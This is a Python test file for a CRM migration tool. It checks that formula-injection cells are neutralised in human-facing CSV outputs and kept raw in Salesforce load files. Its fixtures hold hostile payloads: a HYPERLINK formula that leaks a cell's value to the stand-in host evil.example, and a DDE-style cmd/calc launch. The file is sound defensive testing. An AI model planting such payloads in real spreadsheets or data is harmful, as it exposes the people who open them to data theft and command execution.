"""Formula injection (issue 13 point 7): hostile cells reach every human-facing CSV of a run
neutralised (OWASP), while Data Loader-shaped load files stay raw."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from crmbridge.csvout import DANGEROUS, read_frame

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def _inert(path: Path) -> int:
    """Asserts no cell starts with a formula character; returns how many cells were checked."""
    n = 0
    with open(path, encoding="utf-8-sig", newline="") as f:
        for row in csv.reader(f):
            for cell in row:
                n += 1
                assert not cell or cell[0] not in DANGEROUS, (path.name, cell)
    return n


@pytest.fixture
def hostile_project(tmp_path):
    from crmbridge.config import load_project
    from crmbridge.migrations.demo_data import write_demo_data
    from crmbridge.templates.commands import init_project

    root = tmp_path / "p"
    init_project(root)
    write_demo_data(root, customers=30, erp=False)
    f = root / "data" / "sales_customers.csv"
    planted = [
        # quarantined by validation (bad credit code), hostile key and name, E.164 phone
        ['=C999991', LINK, "BAD-CREDIT", "+8613812345678", "a@b.cn", "@SUM(1+1)", "深圳", "广东省", "518000",
         "CN", "Food", "prospect", "R001", "2020-01-01", "-1+1", "1"],
        # rejected by extract (one field too many): its raw text starts with @
        ["@SUM(1+1)*cmd|' /C calc'!A0", "x", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "extra"],
    ]
    with open(f, "a", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(planted)
    yield load_project(root)
    from crmbridge.state import dispose_all

    dispose_all()


def test_extract_validate_map_outputs_are_inert_and_read_back_exactly(hostile_project):
    from crmbridge.mappings.stage import run_map
    from crmbridge.migrations import runs as R
    from crmbridge.migrations.extract import run_extract
    from crmbridge.migrations.quarantine import quarantined_rows
    from crmbridge.state import open_state
    from crmbridge.validation.stage import run_validate

    proj = hostile_project
    res = run_extract(proj)
    run = R.open_run(open_state(proj.state_url), proj.runs_dir, res.run_id)
    run_validate(proj, run)
    mapped = run_map(proj, run)
    rejects = run.dir / "extract" / "rejects" / "sales_customers.csv"
    quarantine = run.dir / "validate" / "quarantine" / "customers.csv"
    human = [rejects, quarantine, *sorted((run.dir / "validate" / "quarantine").glob("*.csv")),
             *sorted((run.dir / "map" / "quarantine").glob("*.csv"))]
    assert sum(_inert(p) for p in human) > 0
    raw = rejects.read_text("utf-8-sig")
    assert "'@SUM(1+1)" in raw  # neutralised, not dropped
    q = read_frame(quarantine)
    row = q[q["customer_no"] == "=C999991"].iloc[0]  # read back: the original values
    assert row["name"] == LINK and row["phone"] == "+8613812345678" and row["address"] == "@SUM(1+1)"
    assert "'=HYPERLINK" in quarantine.read_text("utf-8-sig")
    # the ledger rows built from these files carry the original key and reasons, not the quotes
    import json

    led = quarantined_rows(run.dir, json.loads(Path(mapped.plan).read_text("utf-8"))["steps"])
    assert any(r["source_key"] == "=C999991" and r["error_code"] == "validate" for r in led)
    assert any(r["error_code"] == "extract" and r["message"].startswith("too_many_fields") for r in led)


def test_dry_run_and_mismatch_files_inert_load_files_raw(project, sf, mapped_run, helpers):
    from crmbridge.migrations.load import run_load
    from crmbridge.migrations.reconcile import run_reconcile

    accounts = helpers.accounts(4)
    accounts.loc[0, "Name"] = LINK
    accounts.loc[1, ["Legacy_Id__c", "_source_key"]] = "-X000001"
    accounts.loc[2, "Name"] = "+8613812345678"
    dry = run_load(project, mapped_run(accounts), connector=sf, dry_run=True).steps[0]
    assert _inert(Path(dry.success_file)) > 0
    assert "-X000001" in read_frame(dry.success_file)["Legacy_Id__c"].tolist()

    run = mapped_run(accounts)
    step = run_load(project, run, connector=sf).steps[0]
    assert step.created == 4
    # Data Loader's shape: cells exactly as sent to Salesforce (documented in docs/consultant.md)
    with open(step.success_file, encoding="utf-8-sig", newline="") as f:
        names = [r["Name"] for r in csv.DictReader(f)]
    assert LINK in names and "+8613812345678" in names

    ids = {r["Legacy_Id__c"]: r["Id"] for r in sf.query("SELECT Id, Legacy_Id__c FROM Account")}
    sf.dml("update", "Account", [{"Id": ids["C000000"], "Name": "@changed in the org"}])
    rec = run_reconcile(project, run, connector=sf)
    mismatch = Path(rec.steps[0].mismatch_file)
    assert _inert(mismatch) > 0
    rows = read_frame(mismatch).to_dict("records")
    assert [(r["external_id"], r["source"], r["org"]) for r in rows] == [("C000000", LINK, "@changed in the org")]
